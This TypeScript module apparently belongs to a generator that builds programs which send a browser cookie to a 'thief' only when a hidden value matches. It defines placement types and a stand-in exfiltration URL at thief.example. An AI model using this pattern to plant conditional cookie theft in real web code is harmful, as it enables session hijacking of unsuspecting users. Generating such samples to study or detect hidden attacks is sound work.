import type { Holes } from "../holes.ts";
import type { RealValue } from "../real-value.ts";
import type { EngineName } from "../template.ts";

/** What a placement is made of. */
export interface Site {
	/** Source of the expression whose value decides. */
	readonly value: string;
	readonly real: RealValue;
	/** Source of an expression that is true for the real value. */
	readonly test: string;
	/** Source of an expression that sends the cookie to the thief. */
	readonly theft: string;
	readonly holes: Holes;
	/** What the browser offers beyond the language is there in pages only. */
	readonly engine: EngineName;
}

/** Ends a program so that it steals when the value is the real one. */
export interface Placement {
	/** `guard/name` or `value/name`, unique. */
	readonly name: string;
	/** @returns statements; null for a value that the placement cannot use */
	readonly place: (site: Site) => string | null;
}

/** Address of the thief up to the data. */
export const TO_THIEF = "https://thief.example/?c=";

/**
 * Names placements.
 * @param kind whether the value decides if the theft runs, or is part of what it does
 * @param makers placements by their names within the kind
 * @returns the placements with their full names
 */
export function placementsOf(
	kind: "guard" | "value",
	makers: Readonly<Record<string, Placement["place"]>>,
): readonly Placement[] {
	return Object.entries(makers).map(([name, place]) => ({ name: `${kind}/${name}`, place }));
}
